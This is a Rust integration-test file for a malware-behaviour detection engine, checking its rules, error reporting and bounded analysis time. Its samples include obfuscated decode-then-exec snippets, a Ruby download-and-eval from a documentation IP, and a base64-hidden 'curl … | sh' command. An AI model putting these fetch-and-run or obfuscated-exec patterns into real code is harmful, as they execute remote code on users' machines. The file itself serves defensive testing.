//! Integration tests of the behaviour engine: every rule's own samples,
//! rule-file errors, and bad input (deep nesting, huge minified files,
//! invalid UTF-8) that must end in bounded time with a coverage finding.

use std::time::{Duration, Instant};

use oversight_behaviour::{Behaviour, RuleSet, analyse};
use oversight_detect::Emit;

fn builtin() -> Behaviour {
    Behaviour::builtin().expect("the built-in rules load")
}

fn describe(found: &[Emit]) -> Vec<String> {
    found
        .iter()
        .map(|e| format!("{} {:?} {}", e.rule.id, e.line_col, e.message))
        .collect()
}

#[test]
fn every_rule_fires_on_its_positive_samples_and_not_on_its_negative_ones() {
    let detector = builtin();
    let mut failures = Vec::new();
    let mut checked = 0;
    for rule in detector.rule_set().rules() {
        let positives = rule.samples.iter().filter(|s| s.positive).count();
        let negatives = rule.samples.len() - positives;
        if positives == 0 || negatives == 0 {
            failures.push(format!(
                "{}: needs at least one positive and one negative sample",
                rule.rule.id
            ));
        }
        for sample in &rule.samples {
            checked += 1;
            let found = analyse(&detector, &sample.path, sample.code.as_bytes());
            let fired = found.iter().any(|e| e.rule.id == rule.rule.id);
            if fired != sample.positive {
                failures.push(format!(
                    "{} ({}, {} sample {}): expected {}, found {:#?}",
                    rule.rule.id,
                    rule.file.display(),
                    if sample.positive {
                        "positive"
                    } else {
                        "negative"
                    },
                    sample.path,
                    if sample.positive { "a finding" } else { "none" },
                    describe(&found)
                ));
            }
        }
    }
    assert!(checked > 60, "only {checked} samples");
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}

#[test]
fn rule_ids_are_unique_and_classes_documented() {
    let detector = builtin();
    let mut ids: Vec<&str> = detector
        .rule_set()
        .rules()
        .iter()
        .map(|r| r.rule.id)
        .collect();
    let n = ids.len();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), n);
    let readme = include_str!("../rules/README.md");
    for rule in detector.rule_set().rules() {
        assert!(
            readme.contains(&format!("`{}`", rule.class)),
            "class {} of {} is not in rules/README.md",
            rule.class,
            rule.rule.id
        );
        assert!(!rule.reference.is_empty());
    }
}

fn user_dir(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("a temporary directory");
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).expect("writing a rule file");
    }
    dir
}

#[test]
fn a_user_rule_is_loaded_and_fires() {
    let dir = user_dir(&[(
        "mine.toml",
        r#"
[[rule]]
id = "malicious.acme-beacon"
class = "suspicious-endpoint"
severity = "high"
summary = "Our own C2 host"
message = "Known C2 host: `{text}`"
reference = "Internal incident 42"
string = "c2\\.acme-bad\\.example"
"#,
    )]);
    let detector = Behaviour::with_user_dir(dir.path()).expect("the user rules load");
    let found = analyse(
        &detector,
        "a.py",
        b"URL = 'https://c2.acme-bad.example/x'\n",
    );
    assert!(
        found.iter().any(|e| e.rule.id == "malicious.acme-beacon"),
        "{:?}",
        describe(&found)
    );
    // Its samples are checked on request: it has none.
    let failures = detector.check_samples(Some(dir.path()));
    assert_eq!(failures.len(), 1, "{failures:?}");
    assert!(
        failures[0]
            .to_string()
            .contains("rule `malicious.acme-beacon`: needs at least one positive"),
        "{}",
        failures[0]
    );
}

#[test]
fn a_malformed_rule_file_names_file_rule_and_line_and_nothing_loads() {
    let dir = user_dir(&[(
        "bad.toml",
        "[[rule]]\nid = \"malicious.ok-one\"\nclass = \"x\"\nseverity = \"high\"\nsummary = \"s\"\nmessage = \"m\"\nreference = \"r\"\nstring = \"a\"\n\n[[rule]]\nid = \"malicious.broken\"\nclass = \"x\"\nseverity = \"high\"\nsummary = \"s\"\nmessage = \"m\"\nreference = \"r\"\nstring = \"(unclosed\"\n",
    )]);
    let err = RuleSet::with_user_dir(dir.path()).expect_err("an invalid regex is an error");
    let text = err.to_string();
    assert!(text.contains("bad.toml"), "{text}");
    assert!(text.contains("line 10"), "{text}");
    assert!(text.contains("malicious.broken"), "{text}");
    assert!(text.contains("not a valid regular expression"), "{text}");

    let dir = user_dir(&[(
        "syntax.toml",
        "[[rule]]\nid = \"malicious.x\"\nseverity = \n",
    )]);
    let text = RuleSet::with_user_dir(dir.path())
        .expect_err("bad TOML")
        .to_string();
    assert!(
        text.contains("syntax.toml") && text.contains("line 3"),
        "{text}"
    );

    let dir = user_dir(&[(
        "cap.toml",
        "[[rule]]\nid = \"malicious.y\"\nclass = \"x\"\nseverity = \"high\"\nsummary = \"s\"\nmessage = \"m\"\nreference = \"r\"\ncall = [\"@teleport\"]\n",
    )]);
    let text = RuleSet::with_user_dir(dir.path())
        .expect_err("unknown capability")
        .to_string();
    assert!(
        text.contains("malicious.y") && text.contains("@teleport") && text.contains("line 1"),
        "{text}"
    );

    let dir = user_dir(&[(
        "dup.toml",
        "[[rule]]\nid = \"malicious.decode-then-exec\"\nclass = \"x\"\nseverity = \"high\"\nsummary = \"s\"\nmessage = \"m\"\nreference = \"r\"\nstring = \"a\"\n",
    )]);
    let text = RuleSet::with_user_dir(dir.path())
        .expect_err("a duplicate id")
        .to_string();
    assert!(text.contains("already used"), "{text}");

    let dir = user_dir(&[(
        "unknown.toml",
        "[[rule]]\nid = \"malicious.z\"\nwhatever = 1\n",
    )]);
    let text = RuleSet::with_user_dir(dir.path())
        .expect_err("an unknown key")
        .to_string();
    assert!(
        text.contains("unknown.toml") && text.contains("whatever"),
        "{text}"
    );
}

#[test]
fn aliases_imports_and_folding_are_followed() {
    let detector = builtin();
    let cases: &[(&str, &str, &str)] = &[
        (
            "a.py",
            "import os\nx = __import__('o'+'s')\nx.system(__import__('base64').b64decode('aWQ=').decode())\n",
            "malicious.decode-then-exec",
        ),
        (
            "b.py",
            "f = getattr(__builtins__, 'ex'+'ec')\nf(bytes.fromhex('7072696e742831'))\n",
            "malicious.decode-then-exec",
        ),
        (
            "c.js",
            "const cp = require('node:child_process');\nconst s = atob('aWQ=');\ncp.execSync(s);\n",
            "malicious.decode-then-exec",
        ),
        (
            "d.js",
            "global['ev'+'al'](Buffer.from('6964', 'hex').toString());\n",
            "malicious.decode-then-exec",
        ),
        (
            "e.py",
            "exec('tnirp'[::-1] + '(1)')\n",
            "malicious.obfuscated-exec",
        ),
        (
            "f.rb",
            "require 'open-uri'\ncode = URI.open('http://203.0.113.2/x').read\neval(code)\n",
            "malicious.download-and-exec",
        ),
        // A decoded payload is read as code again: the hidden download is seen.
        (
            "g.py",
            "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNoIik='))\n",
            "malicious.shell-download-pipe",
        ),
    ];
    for (path, code, rule) in cases {
        let found = analyse(&detector, path, code.as_bytes());
        assert!(
            found.iter().any(|e| e.rule.id == *rule),
            "{path}: expected {rule}, found {:#?}",
            describe(&found)
        );
    }
}

#[test]
fn deep_nesting_ends_with_a_coverage_finding() {
    let detector = builtin();
    let code = format!("x = {}1{}\n", "(".repeat(5000), ")".repeat(5000));
    let started = Instant::now();
    let found = analyse(&detector, "deep.py", code.as_bytes());
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(
        found
            .iter()
            .any(|e| e.rule.id == "coverage.behaviour-analysis-incomplete"),
        "{:?}",
        describe(&found)
    );
    // PowerShell: each parenthesis is a dozen nodes deep in its grammar.
    let ps = format!("$x = {}1{}\n", "(".repeat(3000), ")".repeat(3000));
    let started = Instant::now();
    let found = analyse(&detector, "deep.ps1", ps.as_bytes());
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(
        found
            .iter()
            .any(|e| e.rule.id == "coverage.behaviour-analysis-incomplete"),
        "{:?}",
        describe(&found)
    );
    let js = format!("var a = {}0{};\n", "[".repeat(20000), "]".repeat(20000));
    let found = analyse(&detector, "deep.js", js.as_bytes());
    assert!(
        found
            .iter()
            .any(|e| e.rule.id == "coverage.behaviour-analysis-incomplete"),
        "{:?}",
        describe(&found)
    );
}

#[test]
fn a_minified_megabyte_line_is_analysed_in_bounded_time() {
    let detector = builtin();
    let mut code = String::from("!function(){");
    while code.len() < 1_900_000 {
        code.push_str("var a=b.c(d,e)+f[g]||h(\"i\");");
    }
    code.push_str("eval(atob(\"aWQ=\"))}();");
    let started = Instant::now();
    let found = analyse(&detector, "bundle.min.js", code.as_bytes());
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "{:?}",
        started.elapsed()
    );
    assert!(
        found
            .iter()
            .any(|e| e.rule.id == "malicious.decode-then-exec")
            || found
                .iter()
                .any(|e| e.rule.id == "coverage.behaviour-analysis-incomplete"),
        "{:?}",
        describe(&found)
    );
}

#[test]
fn invalid_utf8_and_grammar_errors_do_not_stop_the_analysis() {
    let detector = builtin();
    let mut code =
        b"import os\n\xff\xfe garbage ((( \nos.system(__import__('base64').b64decode('aWQ='))\n"
            .to_vec();
    code.extend_from_slice(b"def broken(:\n");
    let found = analyse(&detector, "x.py", &code);
    assert!(
        found
            .iter()
            .any(|e| e.rule.id == "malicious.decode-then-exec"),
        "{:?}",
        describe(&found)
    );
}
